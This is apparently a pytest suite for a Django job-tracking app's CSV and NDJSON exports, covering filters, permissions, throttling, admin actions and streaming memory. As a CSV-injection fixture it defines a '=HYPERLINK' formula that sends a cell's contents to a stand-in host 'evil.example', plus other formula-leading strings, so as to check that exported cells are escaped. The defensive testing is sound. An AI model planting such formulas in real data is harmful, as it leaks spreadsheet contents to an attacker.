"""Exports (issue #7): the API's streamed files equal its lists, cells are spreadsheet-safe,
the admin's links, actions and job history honour filters and permissions, the command
writes the same file, exports are throttled, and streaming memory does not grow."""

from __future__ import annotations

import csv
import io
import itertools
import json
import re
import tracemalloc
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.core.cache import cache
from django.core.management import CommandError, call_command
from django.db import connection
from django.http import QueryDict
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from rest_framework.throttling import ScopedRateThrottle

from jobcenter.exports import columns, specs, stream
from jobcenter.exports.throttle import EXPORT_SCOPE
from jobcenter.models import Job, JobError, JobSnapshot
from jobcenter.queries.scoping import scoped
from tests.api_support import (
    BASE_TIME,
    api_account,
    grant,
    make_job,
    make_user,
    seed_history,
    token_client,
)

pytestmark = pytest.mark.django_db

V1 = "/api/v1"
SMALL_CHUNK = 4  # several chunks even for a handful of rows: keyset seams are exercised
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
API_FIELDS = {
    "jobs": None,  # every column is a field of the list
    "snapshots": [
        "id",
        "job",
        "observed_at",
        "status",
        "provider_status",
        "total_count",
        "completed_count",
        "failed_count",
        "digest",
    ],
    "errors": [
        "id",
        "job",
        "position",
        "code",
        "title",
        "message",
        "source",
        "external_id",
        "fetched_at",
    ],
}
RAW = {"jobs": "payload", "snapshots": "payload", "errors": "raw"}


@pytest.fixture(autouse=True)
def small_chunks(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(stream, "CHUNK_SIZE", SMALL_CHUNK)
    cache.clear()  # throttle counters


@pytest.fixture
def world() -> dict[str, Any]:
    """seed_history plus jobs that share creation times, lack them, and fail hostile."""
    account = api_account()
    other = api_account("EP second")
    seeded = seed_history(account)
    jobs = list(seeded["jobs"])
    for n in range(6, 20):
        created = None if n % 5 == 0 else BASE_TIME + timedelta(minutes=n // 3)  # ties
        if n in (7, 8):  # fractions of a second, with trailing zeros, written as the API does
            created += timedelta(microseconds=120_000 if n == 7 else 5)
        jobs.append(
            make_job(
                other if n % 2 else account,
                n,
                created_at=created,
                status="failed" if n % 3 == 0 else "succeeded",
                provider_status="=1+1" if n == 9 else "complete",
                total_count=n * 10,
                completed_count=n * 9,
                failed_count=n,
            )
        )
        JobSnapshot.objects.create(
            job=jobs[-1],
            observed_at=BASE_TIME + timedelta(minutes=n // 2),
            status="running",
            digest=f"s{n}",
            payload={"n": n, "é": "ü"},
        )
    hostile = jobs[8]  # job-00009, failed
    JobError.objects.create(
        job=hostile,
        position=0,
        code="-1",
        title="+SUM(A1:A9)",
        message=HYPERLINK,
        source="@cmd",
        external_id="\tsku-1",
        raw={"detail": HYPERLINK},
    )
    return {"account": account, "other": other, "jobs": jobs, "hostile": hostile, **seeded}


def body(response: Any) -> str:
    assert response.status_code == 200, response.content[:500]
    assert response.streaming
    return b"".join(response.streaming_content).decode("utf-8")


def csv_rows(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff"), "a BOM, so spreadsheets read UTF-8"
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def all_pages(client: Any, url: str) -> list[dict[str, Any]]:
    rows: list[dict[str, Any]] = []
    while url:
        response = client.get(url)
        assert response.status_code == 200, response.content[:500]
        rows += response.json()["results"]
        url = response.json()["next"]
    return rows


def as_cell(value: Any) -> str:
    """An API value as the CSV writes it."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    return columns.spreadsheet_safe(value) if isinstance(value, str) else str(value)


# --- the API ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("what", "query"),
    [
        ("jobs", ""),
        ("jobs", "status=failed&account=EP+main"),
        ("jobs", "ordering=created_at"),
        ("jobs", "ordering=-completed_at&terminal=true"),
        ("jobs", "created_after=2026-03-01T12:02:00Z&created_before=2026-03-01T12:05:00Z"),
        ("jobs", "search=SKU"),
        ("snapshots", ""),
        ("snapshots", "observed_after=2026-03-01T12:03:00Z&ordering=observed_at"),
        ("snapshots", "account=EP+second&status=running"),
        ("errors", ""),
        ("errors", "search=HYPERLINK"),
        ("errors", "ordering=position"),
    ],
)
def test_csv_and_ndjson_hold_exactly_the_rows_the_list_endpoint_returns(
    world: dict[str, Any], what: str, query: str
) -> None:
    client = token_client(make_user("superuser"))
    listed = all_pages(client, f"{V1}/{what}/?page_size=3&{query}")
    assert listed or query, "the unfiltered lists are not empty"
    spec = specs.EXPORTS[what]
    fields = API_FIELDS[what] or spec.header()

    text = body(client.get(f"{V1}/exports/{what}.csv?{query}"))
    assert next(csv.reader(io.StringIO(text.removeprefix("\ufeff")))) == spec.header()
    rows = csv_rows(text)
    assert [int(row["id"]) for row in rows] == [row["id"] for row in listed]
    for row, api in zip(rows, listed, strict=True):
        assert {f: row[f] for f in fields} == {f: as_cell(api[f]) for f in fields}

    lines = body(client.get(f"{V1}/exports/{what}.ndjson?{query}")).splitlines()
    records = [json.loads(line) for line in lines]
    assert [r["id"] for r in records] == [row["id"] for row in listed]
    for record, api in zip(records, listed, strict=True):
        assert list(record) == [*spec.header(), RAW[what]]
        assert {f: record[f] for f in fields} == {f: api[f] for f in fields}
    if what != "jobs":  # the list shows the raw JSON of snapshots and errors
        assert [r[RAW[what]] for r in records] == [api[RAW[what]] for api in listed]


def test_job_exports_carry_account_names_and_payloads(world: dict[str, Any]) -> None:
    client = token_client(make_user("superuser"))
    records = [
        json.loads(line)
        for line in body(client.get(f"{V1}/exports/snapshots.ndjson?ordering=id")).splitlines()
    ]
    by_job = {job.pk: job for job in Job.objects.select_related("account")}
    for record in records:
        job = by_job[record["job"]]
        assert record["account_name"] == job.account.name
        assert record["job_external_id"] == job.external_id
        assert record["job_created_at"] == (
            job.created_at and job.created_at.isoformat().replace("+00:00", "Z")
        )
    assert {"n": 7, "é": "ü"} in [r["payload"] for r in records]
    jobs = [json.loads(line) for line in body(client.get(f"{V1}/exports/jobs.ndjson")).splitlines()]
    assert all(r["payload"] == {"id": r["external_id"]} for r in jobs)


def test_provider_error_text_that_a_spreadsheet_would_run_is_escaped(
    world: dict[str, Any],
) -> None:
    client = token_client(make_user("superuser"))
    hostile = world["hostile"]
    (row,) = csv_rows(body(client.get(f"{V1}/exports/errors.csv?search=HYPERLINK")))
    assert row["message"] == "'" + HYPERLINK
    assert row["title"] == "'+SUM(A1:A9)"
    assert row["code"] == "'-1"
    assert row["source"] == "'@cmd"
    assert row["external_id"] == "'\tsku-1"
    assert row["job_provider_status"] == "'=1+1"
    assert row["job_external_id"] == hostile.external_id  # plain text stays as it is
    assert row["position"] == "0" and row["job_total_count"] == "90"  # numbers are numbers
    (job_row,) = [
        r
        for r in csv_rows(body(client.get(f"{V1}/exports/jobs.csv")))
        if r["id"] == str(hostile.pk)
    ]
    assert job_row["provider_status"] == "'=1+1"
    # NDJSON is not for spreadsheets: the provider's text exactly as received.
    (record,) = [
        json.loads(line)
        for line in body(client.get(f"{V1}/exports/errors.ndjson?search=HYPERLINK")).splitlines()
    ]
    assert record["message"] == HYPERLINK and record["raw"] == {"detail": HYPERLINK}


def test_downloads_are_named_for_what_and_when_and_bad_filters_are_400(
    world: dict[str, Any],
) -> None:
    client = token_client(make_user("superuser"))
    response = client.get(f"{V1}/exports/snapshots.ndjson", HTTP_ACCEPT="application/x-ndjson")
    assert response["Content-Type"] == "application/x-ndjson"
    assert re.fullmatch(
        r'attachment; filename="jobcenter-snapshots-\d{8}T\d{6}Z\.ndjson"',
        response["Content-Disposition"],
    )
    csv_response = client.get(f"{V1}/exports/jobs.csv", HTTP_ACCEPT="text/csv")
    assert csv_response["Content-Type"] == "text/csv; charset=utf-8"
    assert re.search(
        r'filename="jobcenter-jobs-\d{8}T\d{6}Z\.csv"', csv_response["Content-Disposition"]
    )
    bad = client.get(f"{V1}/exports/jobs.csv?status=nope&created_after=yesterday")
    assert bad.status_code == 400
    assert bad["Content-Type"] == "application/json"
    assert set(bad.json()) == {"status", "created_after"}


URLS = [f"{V1}/exports/{what}.{fmt}" for what in specs.EXPORTS for fmt in specs.FORMATS]


def test_exports_need_the_export_permission_besides_the_view_permission(
    world: dict[str, Any],
) -> None:
    viewer = make_user("viewer")  # staff with every view permission, no export
    for url in URLS:
        response = token_client(viewer).get(url)
        assert response.status_code == 403, url
        assert "export" in response.json()["detail"]
    exporter = grant(viewer, "export_job")
    for url in URLS:
        assert token_client(exporter).get(url).status_code == 200, url
    # The export permission does not replace the view permission of what is exported.
    blind = User.objects.create_user("blind", is_staff=True)
    blind = grant(blind, "export_job", "view_job")
    assert token_client(blind).get(f"{V1}/exports/jobs.csv").status_code == 200
    assert token_client(blind).get(f"{V1}/exports/errors.csv").status_code == 403
    nonstaff = grant(make_user("nonstaff"), "export_job", "view_job")
    assert token_client(nonstaff).get(f"{V1}/exports/jobs.csv").status_code == 403
    assert token_client(None).get(f"{V1}/exports/jobs.csv").status_code == 401


def test_exports_are_throttled_per_user_across_api_and_admin(
    world: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(ScopedRateThrottle.THROTTLE_RATES, EXPORT_SCOPE, "3/hour")
    user = make_user("superuser")
    api = token_client(user)
    admin = Client()
    admin.force_login(user)
    assert api.get(f"{V1}/exports/jobs.csv").status_code == 200
    assert admin.get(reverse("admin:jobcenter_job_export", args=["csv"])).status_code == 200
    assert api.get(f"{V1}/exports/errors.ndjson").status_code == 200
    refused = api.get(f"{V1}/exports/jobs.csv")
    assert refused.status_code == 429
    assert int(refused["Retry-After"]) > 0
    over = admin.get(reverse("admin:jobcenter_job_export", args=["csv"]) + "?status=failed")
    assert over.status_code == 302
    assert over["Location"].endswith("/admin/jobcenter/job/?status=failed")
    page = admin.get(over["Location"]).content.decode()
    assert "Too many exports: try again in" in page
    # The list endpoints are not export-throttled.
    assert api.get(f"{V1}/jobs/").status_code == 200
    # Another user has a counter of their own.
    other = User.objects.create_superuser("other-admin")
    assert token_client(other).get(f"{V1}/exports/jobs.csv").status_code == 200


# --- the admin ----------------------------------------------------------------------------


def admin_client_for(user: User) -> Client:
    client = Client()
    client.force_login(user)
    return client


def test_admin_export_link_carries_the_lists_filters_and_search(world: dict[str, Any]) -> None:
    client = admin_client_for(make_user("superuser"))
    changelist = reverse("admin:jobcenter_job_changelist")
    query = f"status=failed&account__id__exact={world['account'].pk}"
    html = client.get(f"{changelist}?{query}").content.decode()
    export_url = reverse("admin:jobcenter_job_export", args=["csv"])
    link = re.search(rf'href="({re.escape(export_url)}[^"]*)">Export \(CSV\)', html)
    assert link, "the Export link is on the job list"
    href = link.group(1).replace("&amp;", "&")
    assert href == f"{export_url}?{query}"
    listed = set(re.findall(r'<th class="field-external_id"><a href="[^"]+">([^<]+)</a>', html))
    rows = csv_rows(body(client.get(href)))
    assert {row["external_id"] for row in rows} == listed
    assert listed == set(
        Job.objects.filter(status="failed", account=world["account"]).values_list(
            "external_id", flat=True
        )
    )
    # Search (an error text) and the list's own filters, every page, newest first.
    rows = csv_rows(body(client.get(f"{export_url}?q=HYPERLINK")))
    assert [row["external_id"] for row in rows] == [world["hostile"].external_id]
    everything = csv_rows(body(client.get(f"{export_url}?p=2&o=3")))
    assert len(everything) == Job.objects.count()
    ndjson = body(client.get(reverse("admin:jobcenter_job_export", args=["ndjson"])))
    assert len(ndjson.splitlines()) == Job.objects.count()


def test_admin_export_selected_jobs_and_snapshots_actions(world: dict[str, Any]) -> None:
    client = admin_client_for(make_user("superuser"))
    chosen = [job.pk for job in world["jobs"][:3]]
    response = client.post(
        reverse("admin:jobcenter_job_changelist"),
        {"action": "export_selected", "_selected_action": chosen, "index": 0},
    )
    rows = csv_rows(body(response))
    assert sorted(int(row["id"]) for row in rows) == sorted(chosen)
    html = client.get(reverse("admin:jobcenter_job_changelist")).content.decode()
    assert "Export selected jobs (CSV)" in html

    snapshots = [s.pk for s in world["snapshots"][:2]]
    response = client.post(
        reverse("admin:jobcenter_jobsnapshot_changelist"),
        {"action": "export_selected", "_selected_action": snapshots, "index": 0},
    )
    assert sorted(int(row["id"]) for row in csv_rows(body(response))) == sorted(snapshots)
    html = client.get(reverse("admin:jobcenter_jobsnapshot_changelist")).content.decode()
    assert "Export (CSV)" in html and "Export selected job snapshots (CSV)" in html
    url = reverse("admin:jobcenter_jobsnapshot_export", args=["csv"]) + "?status=running"
    rows = csv_rows(body(client.get(url)))
    assert {row["status"] for row in rows} == {"running"}
    assert len(rows) == JobSnapshot.objects.filter(status="running").count()


def test_job_page_exports_the_jobs_whole_history_oldest_first(world: dict[str, Any]) -> None:
    client = admin_client_for(make_user("superuser"))
    job = world["jobs"][1]
    for minute in (30, 10, 20):
        JobSnapshot.objects.create(
            job=job,
            observed_at=BASE_TIME + timedelta(minutes=minute),
            status="failed",
            digest=str(minute),
        )
    html = client.get(reverse("admin:jobcenter_job_change", args=[job.pk])).content.decode()
    url = reverse("admin:jobcenter_job_history_csv", args=[job.pk])
    assert url in html and "Export history (CSV)" in html
    response = client.get(url)
    assert re.search(
        rf'filename="jobcenter-snapshots-job-product-import-{job.external_id}-history-\d{{8}}T\d{{6}}Z\.csv"',
        response["Content-Disposition"],
    )
    rows = csv_rows(body(response))
    assert [row["digest"] for row in rows] == ["d1", "10", "20", "30"]
    assert {row["job_external_id"] for row in rows} == {job.external_id}


def test_staff_without_the_export_permission_see_no_export_and_get_403(
    world: dict[str, Any],
) -> None:
    viewer = make_user("viewer")
    client = admin_client_for(viewer)
    jobs_html = client.get(reverse("admin:jobcenter_job_changelist")).content.decode()
    snaps_html = client.get(reverse("admin:jobcenter_jobsnapshot_changelist")).content.decode()
    job_html = client.get(
        reverse("admin:jobcenter_job_change", args=[world["jobs"][0].pk])
    ).content.decode()
    for html in (jobs_html, snaps_html, job_html):
        assert "Export" not in html
    assert 'class="action-select"' not in jobs_html  # no action, so no checkboxes
    for url in (
        reverse("admin:jobcenter_job_export", args=["csv"]),
        reverse("admin:jobcenter_jobsnapshot_export", args=["ndjson"]),
        reverse("admin:jobcenter_job_history_csv", args=[world["jobs"][0].pk]),
    ):
        assert client.get(url).status_code == 403, url
    refused = client.post(
        reverse("admin:jobcenter_job_changelist"),
        {"action": "export_selected", "_selected_action": [world["jobs"][0].pk], "index": 0},
    )
    assert not refused.streaming  # an unknown action: back to the list, no file

    client = admin_client_for(grant(viewer, "export_job"))
    html = client.get(reverse("admin:jobcenter_job_changelist")).content.decode()
    assert "Export (CSV)" in html and 'class="action-select"' in html


# --- the command --------------------------------------------------------------------------


def test_command_writes_the_same_rows_with_the_same_filters(
    world: dict[str, Any], tmp_path: Path
) -> None:
    out = tmp_path / "failed.csv"
    call_command(
        "export_jobs",
        "--what",
        "jobs",
        "--status",
        "failed",
        "--account",
        "EP main",
        "-o",
        str(out),
        stderr=io.StringIO(),
    )
    rows = csv_rows(out.read_text(encoding="utf-8"))
    expected = specs.filtered(
        specs.EXPORTS["jobs"], QueryDict("status=failed&account=EP+main")
    ).values_list("id", flat=True)
    assert [int(row["id"]) for row in rows] == list(expected)
    assert rows and {row["status"] for row in rows} == {"failed"}

    out = tmp_path / "errors.ndjson"
    call_command(
        "export_jobs",
        "--what",
        "errors",
        "--format",
        "ndjson",
        "--filter",
        "search=HYPERLINK",
        "-o",
        str(out),
        stderr=io.StringIO(),
    )
    (record,) = [json.loads(line) for line in out.read_text().splitlines()]
    assert record["message"] == HYPERLINK

    with pytest.raises(CommandError, match="status"):
        call_command("export_jobs", "--status", "nope", "-o", str(out))
    with pytest.raises(CommandError, match="NAME=VALUE"):
        call_command("export_jobs", "--filter", "colour=red", "-o", str(out))


# --- streaming ----------------------------------------------------------------------------


@pytest.mark.parametrize("role", ["superuser", "viewer"])  # the viewer: a team member
def test_each_chunk_is_one_query_and_the_header_comes_before_any(
    world: dict[str, Any], role: str
) -> None:
    spec = specs.EXPORTS["snapshots"]
    queryset = scoped(specs.filtered(spec, QueryDict()), make_user(role))
    total = queryset.count()
    with CaptureQueriesContext(connection) as captured:
        blocks = stream.export_chunks(spec, "csv", queryset, chunk_size=3)
        header = next(blocks)
        assert len(captured) == 0  # the header needs no rows (account names come joined)
        assert header.decode("utf-8-sig").startswith("id,job,observed_at,")
        rest = list(blocks)
    assert len(rest) == -(-total // 3)
    assert len(captured) == len(rest) + (1 if total % 3 == 0 else 0)


def seed_jobs(account: Any, count: int, start: int) -> None:
    Job.objects.bulk_create(
        [
            Job(
                account=account,
                provider=account.provider,
                kind="product-import",
                external_id=f"bulk-{start + n:07d}",
                status="succeeded",
                provider_status="complete",
                created_at=BASE_TIME + timedelta(seconds=start + n),
                total_count=n,
                payload={"id": n, "text": "x" * 200},
            )
            for n in range(count)
        ],
        batch_size=2000,
    )


def peak_bytes(spec: specs.ExportSpec, fmt: str) -> tuple[int, int]:
    """Peak Python allocation while streaming the whole export, and its size."""
    queryset = specs.filtered(spec, QueryDict())
    tracemalloc.start()
    try:
        size = sum(
            len(block) for block in stream.export_chunks(spec, fmt, queryset, chunk_size=500)
        )
        return tracemalloc.get_traced_memory()[1], size
    finally:
        tracemalloc.stop()


def test_streaming_memory_does_not_grow_with_the_number_of_rows() -> None:
    account = api_account()
    spec = specs.EXPORTS["jobs"]
    seed_jobs(account, 2_000, 0)
    small_peak, small_size = peak_bytes(spec, "ndjson")
    seed_jobs(account, 8_000, 2_000)
    large_peak, large_size = peak_bytes(spec, "ndjson")
    assert large_size > 4.5 * small_size
    # Five times the rows, about the same peak: one chunk at a time, never the file.
    assert large_peak < 1.5 * small_peak, (small_peak, large_peak)


@pytest.mark.parametrize("what", ["jobs", "snapshots", "errors"])
@pytest.mark.parametrize("fmt", specs.FORMATS)
def test_cells_the_database_writes_equal_the_python_rules(
    world: dict[str, Any], what: str, fmt: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """SQLite and PostgreSQL write times, quoted formulas and booleans in SQL; a database
    without those expressions gets the same file from the Python converters."""
    for position, text in enumerate(["two\nlines", "\rcr", 'say "hi"', "a,b", "", "ünï ☃"]):
        JobError.objects.create(
            job=world["hostile"],
            position=10 + position,
            code=text,
            title=f"-{text}",
            message=text,
            source="",
            external_id=f"={text}",
            raw={"text": text},
        )
    spec = specs.EXPORTS[what]
    queryset = specs.filtered(spec, QueryDict())
    in_sql = b"".join(stream.export_chunks(spec, fmt, queryset, chunk_size=4))
    monkeypatch.setattr(columns.UtcText, "VENDORS", ())
    in_python = b"".join(stream.export_chunks(spec, fmt, queryset, chunk_size=4))
    assert in_sql == in_python
    if fmt == "csv":
        assert len(csv_rows(in_sql.decode())) == queryset.count()


def test_chunks_ordered_by_a_text_column_resume_from_the_stored_value(
    world: dict[str, Any],
) -> None:
    """An admin export may be ordered by any column; a chunk that ends on a quoted cell
    ('=1+1 written for =1+1) must resume after the stored value, not the written one."""
    spec = specs.EXPORTS["jobs"]
    queryset = Job.objects.order_by("provider_status", "id")
    expected = list(queryset.values_list("id", "provider_status"))
    assert any(status.startswith("=") for _, status in expected)
    for chunk_size in (1, 2, 3):
        blocks = stream.export_chunks(spec, "csv", queryset, chunk_size=chunk_size)
        # Bounded: resuming from the written cell would read the same rows again forever.
        text = b"".join(itertools.islice(blocks, len(expected) + 2))
        rows = csv_rows(text.decode())
        assert [(int(row["id"]), row["provider_status"]) for row in rows] == [
            (pk, columns.spreadsheet_safe(status)) for pk, status in expected
        ]


def test_a_csv_line_of_more_cells_than_postgresql_takes_is_refused_clearly() -> None:
    from django.db.models import F

    columns.CsvLine(*[F("id")] * columns.CsvLine.MAX_CELLS)
    with pytest.raises(ValueError, match="at most 99 cells, not 100"):
        columns.CsvLine(*[F("id")] * 100)
